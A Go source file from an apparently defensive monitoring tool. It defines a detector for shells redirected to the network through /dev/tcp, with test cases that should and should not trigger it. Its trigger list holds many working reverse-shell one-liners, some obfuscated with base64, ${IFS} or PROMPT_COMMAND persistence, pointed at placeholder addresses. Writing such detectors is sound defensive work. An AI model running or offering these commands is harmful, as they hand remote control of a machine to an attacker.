package detect

import (
	"slices"
	"strings"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
	"github.com/code-on-incus/coi/pkg/coi"
)

var shellDevtcp = Detector{
	ID: "shell.devtcp", Level: coi.Critical, Wants: execs,
	Title:  "shell redirected to the network",
	Why:    "a shell reads its commands from a network path of bash and answers there",
	Detect: onCommands(devtcp),
	Fire: lines(coi.Critical, "exec {n}<>/dev/tcp/203.0.113.9/9; bash <&$n >&$n",
		"bash -i >& /dev/tcp/198.51.100.7/4242 0>&1",
		"sh -i >& /dev/udp/198.51.100.7/53 0>&1",
		"0<&196;exec 196<>/dev/tcp/198.51.100.7/4242; sh <&196 >&196 2>&196",
		"exec 5<>/dev/tcp/198.51.100.7/4242; cat <&5 | while read line; do $line 2>&5 >&5; done",
		"exec 3<>/dev/tcp/evil.test/99 && while read -r c <&3; do eval \"$c\" >&3 2>&3; done",
		"/bin/bash -l > /dev/tcp/198.51.100.7/4242 0<&1 2>&1",
		"sh -i 5<> /dev/tcp/198.51.100.7/4242 0<&5 1>&5 2>&5",
		"nohup bash -c 'bash -i >& /dev/tcp/198.51.100.7/4242 0>&1' &",
		"R=198.51.100.7; P=4242; bash${IFS}-i >&/dev/tcp/$R/$P 0>&1",
		"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDI0MiAwPiYx | base64 -d | bash",
		"/${u}bin/bash -l > /${u}dev/tcp/198.51.100.7/4242 0<&1 2>&1",
		"export PROMPT_COMMAND='bash -i >& /dev/tcp/198.51.100.7/1 0>&1'",
		"cp /bin/bash /tmp/k && /tmp/k -i >& /dev/tcp/198.51.100.7/1 0>&1",
		"coproc bash -i; cat <&\"${COPROC[0]}\" >/dev/tcp/198.51.100.7/4444 & cat </dev/tcp/198.51.100.7/4445 >&\"${COPROC[1]}\"",
		"python3 -c 'import os; os.system(\"bash -c \\\"bash -i >& /dev/tcp/198.51.100.7/1 0>&1\\\"\")'",
	),
	Quiet: lines("",
		"coproc bc; echo '1+1' >&\"${COPROC[1]}\"; cat <&\"${COPROC[0]}\" > /dev/tcp/198.51.100.7/80",
		"cat < /dev/null > /dev/tcp/localhost/5432",
		"timeout 1 bash -c '</dev/tcp/db/5432'",
		"until (echo > /dev/tcp/redis/6379) 2>/dev/null; do sleep 1; done",
		"bash -i >& /dev/tcp/127.0.0.1/4242 0>&1",
		"exec 3<>/dev/tcp/web/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
		"grep -rn 'bash -i >& /dev/tcp/198.51.100.7/4242' docs/",
		"while ! (echo >/dev/tcp/kafka/9092) &>/dev/null; do echo waiting; done",
	),
}

func devtcp(s *command.Simple, _ track.View) *Finding {
	in, out := s.FDs[0], s.FDs[1]
	if !command.DevNet(out) {
		out = s.FDs[2]
	}
	inNet := command.DevNet(in)
	for _, p := range s.Stdin {
		inNet = inNet || command.DevNet(p.FDs[0]) || readsDevNet(p)
	}
	if sh, ok := strings.CutPrefix(in, "coproc:"); ok && command.DevNet(out) && program.ClassOf(sh) == program.Shell && !command.Loopback(command.DevNetHost(out)) {
		return say(s, coi.Critical, "coprocess of a shell joined to "+strings.TrimPrefix(out, "/dev/")).to(command.DevNetHost(out))
	}
	if !command.DevNet(out) {
		return nil
	}
	host := command.DevNetHost(out)
	if host != "" && command.Loopback(host) {
		return nil
	}
	loop := s.Dynamic && (s.Loop || inNet) || s.Name == "eval" && (s.Loop || inNet) || s.Class() == program.Shell && s.Loop && s.Arg("-c")
	if s.Class() == program.None && command.DevNet(in) && s.Name != "" && !s.Dynamic {
		return say(s, coi.Critical, "program redirected to "+strings.TrimPrefix(out, "/dev/")).to(host)
	}
	driven := s.Class() == program.Shell && inNet && s.Name != "" && !runsText(s)
	if !driven && !loop && !(s.Class() == program.Shell && s.Arg("-i", "-li", "-il")) {
		return nil
	}
	return say(s, coi.Critical, "shell redirected to "+strings.TrimPrefix(out, "/dev/")).to(host)
}

// readsDevNet reports commands that read a network path by name.
func readsDevNet(s *command.Simple) bool {
	return slices.ContainsFunc(s.Argv, command.DevNet)
}

// runsText reports shells that were given their text: -c or a script.
func runsText(s *command.Simple) bool {
	p := program.Parse(program.SpecOf(s.Name), s.Argv, true)
	return p.Has("c") || len(p.Rest) > 0 && !p.Has("s") && p.Rest[0] != "-"
}
